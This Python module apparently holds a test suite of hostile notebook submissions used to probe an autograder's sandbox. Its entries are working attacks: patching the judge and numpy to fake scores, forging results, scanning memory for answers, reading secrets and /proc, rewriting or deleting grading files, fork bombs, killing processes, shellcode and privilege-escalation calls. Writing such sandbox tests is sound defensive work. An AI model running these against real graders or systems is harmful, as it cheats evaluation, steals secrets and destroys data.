"""Hostile submissions, one idea each: code that a notebook runs before its answers.

What an attack puts into `answers`, by problem, is handed in; all other answers are wrong.
{folder} is a folder of the machine that grades: in it lie the solutions, secret.txt and gradebook.db. {port} listens on
its loopback. An attack wins if it earns a point, reads a secret, changes a file, reaches the port, or leaves a process.
"""

from dataclasses import replace

from misstep.grading.sandbox.limits import Limits

LIMITS = Limits(cell_seconds=2.0, cell_wall_seconds=10.0, seconds=10.0, wall_seconds=60.0, memory_mb=1024, output_mb=5)

SHORT = replace(LIMITS, cell_seconds=0.5, seconds=2.0, wall_seconds=8.0)
"""For what would take all the time there is: those who only need theirs get plenty, for the machine may be busy."""

ENDLESS = {"signals are ignored for ever", "a function never returns"}

ATTACKS = {
    # --- patching what judges ---
    "numpy agrees with everything": """
import builtins
drawn = [sheet.problem(k) for k in range(1, 9)]
np.allclose = np.all = np.isclose = np.array_equal = lambda *a, **k: True
np.abs = lambda x: np.zeros(np.shape(x))
np.testing.assert_allclose = lambda *a, **k: None
builtins.all = lambda x: True
""",
    "kinlib's judge is replaced": """
import misstep.judge as j, misstep.sheet as s, misstep.verdict as v
full = lambda problem, given: j.Judgement("right", 1.0, ["all"])
j.judge = s.judge = full
v.Verdict.score = property(lambda self: 3.0)
""",
    "the sheet is another one": """
class Sheet:
    def __getattr__(self, name):
        return lambda *a: type("V", (), {"score": 3.0, "_repr_mimebundle_": lambda s, **k: {"text/plain": "Right"})()
sheet = Sheet()
""",
    "an input transformer rewrites the checks": """
def rewrite(lines):
    return ["type('V', (), {'score': 3.0})()"] if "check(" in "".join(lines) else lines
get_ipython().input_transformers_cleanup.append(rewrite)
get_ipython().input_transformers_post.append(rewrite)
""",
    "cells are run by somebody else": """
shell = get_ipython()
shell.run_cell = lambda *a, **k: type("R", (), {"success": True, "result": None})()
shell.run_code = shell.run_ast_nodes = lambda *a, **k: None
""",
    # --- answers that are no answers ---
    "an answer equals everything": """
class Equal(float):
    __eq__ = __le__ = __ge__ = __lt__ = lambda *a: True
    __hash__ = float.__hash__
    __sub__ = __rsub__ = __abs__ = lambda *a: Equal(0)
answers = dict.fromkeys(range(1, 9), Equal(1))
""",
    "an array answers for NumPy": """
class Array(np.ndarray):
    def __array_function__(self, f, types, args, kwargs):
        return True
    def __array_ufunc__(self, f, method, *args, **kwargs):
        return np.zeros(self.shape)
answers = {k: np.zeros(shape).view(Array) for k, shape in enumerate([(3, 6), 6, 6, 6, 6, 5, (4, 4), (4, 4)], start=1)}
""",
    "a pickle goes off": """
class Bomb:
    def __reduce__(self):
        return open, ("{folder}/written", "w")
answers = {1: Bomb(), 2: np.array([Bomb()] * 6, dtype=object)}
""",
    "an answer is never-ending": """
class Endless(list):
    def __len__(self): return 10**12
    def __iter__(self):
        while True: yield 0.0
answers = {1: Endless(), 2: [[]]}
answers[2][0].append(answers[2])
""",
    "a function looks at who calls it": """
import sys
def spy(q):
    frame = sys._getframe(1)
    while frame:
        for value in [*frame.f_locals.values()]:
            if callable(getattr(getattr(value, "answer", None), "value", None)):
                return value.answer.value(q)
        frame = frame.f_back
    return np.full((4, 4), 50.0)
answers = {7: spy}
""",
    "a function never returns": """
def forever(q):
    while True: pass
answers = {7: forever}
""",
    # --- forging what is sent ---
    "points are displayed": """
from IPython.display import display
for k in range(1, 9):
    display({"application/vnd.misstep.answer+json": {"sheet": "03_poe_space", "problem": k, "student": "ada",
             "answer": None, "score": 3, "fraction": 1.0, "state": "right"}, raw=True)
""",
    "the emission holds code": """
import misstep.sheet as s
s.to_data = lambda *a, **k: {"symbolic": "__import__('os').system('touch {folder}/written')"}
""",
    "the emission is not JSON": """
import json
json.dumps = lambda *a, **k: '{"cell": 0, "outputs": [{"output_type": "display_data", "data": 1e999, "metadata": NaN}]}'
""",
    "verdicts are written to every open file": """
import os, json
line = json.dumps({"verdicts": {str(k): {"state": "right", "fraction": 1.0} for k in range(9)}, "score": 24}) + "\\n"
for descriptor in range(3, 300):
    try: os.write(descriptor, line.encode() * 3)
    except OSError: pass
""",
    "a nest without end is written to every open file": """
import os
for descriptor in range(3, 300):
    try: os.write(descriptor, b"[" * 500_000 + b"\\n")
    except OSError: pass
""",
    "another student's answers are handed in": """
answers = {replayed}
""",
    "the emission takes hours to read": """
import misstep.sheet as s
texts = ["sign(sin(exp(exp(exp(4)))))", "sin(exp(exp(30)))**2", "cos(10**9**9)", "log(exp(exp(exp(9))))"] * 3
s.to_data = lambda *a, **k: {"symbolic": texts.pop()}
""",
    # --- looking for the answers ---
    "the library is asked": """
import importlib, sys
sys.modules.pop('kincourse')
opened = importlib.import_module('kincourse').open_sheet
answers = {k: opened("03_poe_space", "ada").problem(k).answer.value for k in range(1, 9)}
""",
    "the stack is walked": """
import sys
class Spy:
    def __init__(self, k): self.k = k
    @property
    def shape(self):
        frame = sys._getframe()
        while frame:
            problem = frame.f_locals.get("problem")
            if problem is not None and hasattr(problem, "answer"):
                return np.shape(problem.answer.value)
            frame = frame.f_back
        return ()
    def __array__(self, *a, **k):
        frame = sys._getframe()
        while frame:
            problem = frame.f_locals.get("problem")
            if problem is not None and hasattr(problem, "answer"):
                return np.array(problem.answer.value)
            frame = frame.f_back
        return np.zeros(3)
answers = {k: Spy(k) for k in range(1, 9)}
""",
    "the heap is searched": """
import gc
from misstep.problem import Problem
drawn = [sheet.problem(k) for k in range(1, 9)]
found = [thing for thing in gc.get_objects() if isinstance(thing, Problem)]
answers = {
    k: thing.answer.value for k, mine in enumerate(drawn, start=1) for thing in found if thing.statement == mine.statement
}
print([text for text in gc.get_objects() if isinstance(text, dict) and "NEIGHBOUR-CANARY" in str(text)[:10000]][1:])
""",
    # --- reading and changing the machine ---
    "a link leads outside": """
import os
os.symlink("{folder}", "link")
print(open("link/secret.txt").read())
""",
    "the gradebook is rewritten": """
import sqlite3
book = sqlite3.connect("{folder}/gradebook.db")
book.execute("update grade set score = 24")
book.commit()
""",
    "proc is read": """
import glob
for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline"):
    try: print(open(path, "rb").read())
    except OSError: pass
print(open("/proc/1/root{folder}/secret.txt").read())
""",
    "the environment is read": """
import os, ctypes
print(dict(os.environ), ctypes.CDLL(None).getenv(b"SECRET_TOKEN"))
ctypes.CDLL(None).getenv.restype = ctypes.c_char_p
print(ctypes.CDLL(None).getenv(b"SECRET_TOKEN"))
""",
    "files are written outside": """
import kinlib, os, site, sys
for folder in ["{folder}", "/", "/usr", sys.prefix, *kinlib.__path__, os.path.expanduser("~/.."), "/dev/shm", "/etc"]:
    try: open(folder + "/written", "w").write("x")
    except OSError: pass
""",
    "files are deleted": """
import shutil
shutil.rmtree("{folder}", ignore_errors=True)
""",
    "the network is reached": """
import socket
for kind in (socket.AF_INET, socket.AF_UNIX):
    try:
        s = socket.socket(kind)
        s.connect(("127.0.0.1", {port}))
        s.send(b"hello")
    except OSError: pass
""",
    # --- staying alive, hurting others ---
    "a process survives": """
import os, subprocess, sys, time
try:
    if os.fork() == 0:
        os.setsid()
        time.sleep(60)
        os._exit(0)
except OSError: pass
subprocess.Popen([sys.executable, "-c", "import time; time.sleep(60)"], start_new_session=True)
""",
    "everybody is killed": """
import os, signal
for process in (os.getppid(), -1, 0, 1, *range(2, 60)):
    if process != os.getpid():
        try: os.kill(process, signal.SIGKILL)
        except (OSError, OverflowError): pass
""",
    "signals are ignored for ever": """
import signal
signal.setitimer(signal.ITIMER_REAL, 0)
for number in range(1, 65):
    try: signal.signal(number, signal.SIG_IGN)
    except (OSError, ValueError): pass
while True: pass
""",
    "calls by the numbers of i386": """
import ctypes, mmap
page = mmap.mmap(-1, 4096, prot=7)
page.write(bytes.fromhex("b814000000cd80c3"))  # getpid
ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))()
print("NEIGHBOUR-CANARY")
""",
    "a fork bomb": """
import os
while True: os.fork()
""",
    "a thread bomb": """
import threading, time
while True: threading.Thread(target=time.sleep, args=(5,), daemon=True).start()
""",
    "the output floods": """
while True: print("x" * 1_000_000)
""",
    "the pipe floods": """
import os
while True: os.write(251, b"x" * 1_000_000)
""",
    "the disk fills": """
files = []
for k in range(10_000):
    files.append(open(f"file{k}", "wb"))
    files[-1].write(bytes(8_000_000))
""",
    "files stay open": """
import os
hoard = [os.dup(1) for _ in range(100_000)]
""",
    "all files are closed": """
import os
os.closerange(0, 100_000)
""",
    "the sandbox is asked to let go": """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
for call in (lambda: libc.setuid(0), lambda: libc.unshare(0x10000000), lambda: libc.mount(b"none", b"/", b"proc", 0, None),
             lambda: libc.ptrace(16, 1, 0, 0), lambda: libc.chroot(b".."), lambda: libc.prctl(22, 0), lambda: libc.setns(3, 0)):
    print("done" if call() == 0 else "refused")
os.setuid(0)
""",
}


HOARD = """
import ctypes, mmap, os, socket, array, fcntl
import numpy as np
MB = 1 << 20
kept, held = [], 0

def keep(thing, size):
    global held
    kept.append(thing)
    held += size

def until_refused(take):
    try:
        while held < {most} * MB: take()
    except (OSError, MemoryError, AttributeError, ValueError): pass
"""
"""What the ways to hold memory share. {most} is where they stop if nothing stops them, in MB."""

WAYS_TO_HOLD_MEMORY = {
    "files that only descriptors hold": """
def take():
    descriptor = os.memfd_create("x")
    keep(descriptor, os.write(descriptor, bytes(16 * MB)))
until_refused(take)
def take():
    libc = ctypes.CDLL(None, use_errno=True)
    descriptor = libc.syscall(447, 0)
    os.ftruncate(descriptor, MB)
    keep(mmap.mmap(descriptor, MB), MB)
until_refused(take)
""",
    "descriptors in flight": """
def take():
    one, other = socket.socketpair()
    for _ in range(8):
        try: descriptor = os.memfd_create("x")
        except OSError: descriptor = os.open("parked", os.O_CREAT | os.O_RDWR)
        size = os.write(descriptor, bytes(16 * MB))
        socket.send_fds(one, [b"x"], [descriptor])
        os.close(descriptor)
        keep((one, other), size)
until_refused(take)
""",
    "files in memory": """
def take_in(folder):
    def take():
        file = open(f"{folder}/{len(kept)}", "wb", 0)
        for _ in range(8): keep(file, file.write(bytes(MB)))
    return take
for folder in ("/dev/shm", "/tmp", "/scratch", "/run", "/var/tmp"):
    until_refused(take_in(folder))
""",
    "shared memory over forks": """
def take():
    memory = mmap.mmap(-1, 16 * MB)
    memory.write(bytes(16 * MB))
    if os.fork() == 0:
        import time
        time.sleep(3)
        os._exit(0)
    memory.close()
    keep(None, 16 * MB)
until_refused(take)
def take():
    memory = mmap.mmap(-1, 16 * MB)
    memory.write(bytes(16 * MB))
    keep(memory, 16 * MB)
until_refused(take)
""",
    "segments and queues of System V and POSIX": """
libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p
def take():
    segment = libc.shmget(0, 16 * MB, 0o1600)
    address = libc.shmat(segment, None, 0)
    if segment < 0 or address == ctypes.c_void_p(-1).value: raise OSError
    ctypes.memset(address, 1, 16 * MB)
    libc.shmdt(ctypes.c_void_p(address))
    keep(segment, 16 * MB)
until_refused(take)
from multiprocessing.shared_memory import SharedMemory
def take():
    memory = SharedMemory(create=True, size=16 * MB)
    memory.buf[:] = bytes(16 * MB)
    keep(memory, 16 * MB)
until_refused(take)
""",
    "pipes": """
def take():
    end, begin = os.pipe()
    os.set_blocking(begin, False)
    try: fcntl.fcntl(begin, 1031, MB)
    except OSError: pass
    keep((end, begin), os.write(begin, bytes(MB)))
until_refused(take)
""",
    "arrays in several processes": """
def take():
    keep(np.ones(MB), 8 * MB)
def fork():
    if os.fork():
        return keep(None, 64 * MB)
    hoard = bytearray(64 * MB)
    import time
    time.sleep(3)
    os._exit(0)
until_refused(fork)
until_refused(take)
""",
}
"""Each adds what it holds at the same time to `held`. The limit must hold for each of them, and for all of them together."""


def source(name, **places):
    """The code of an attack, for a machine of which we know the places."""
    text = ATTACKS[name]
    for place, value in places.items():
        text = text.replace("{" + place + "}", str(value))
    return text
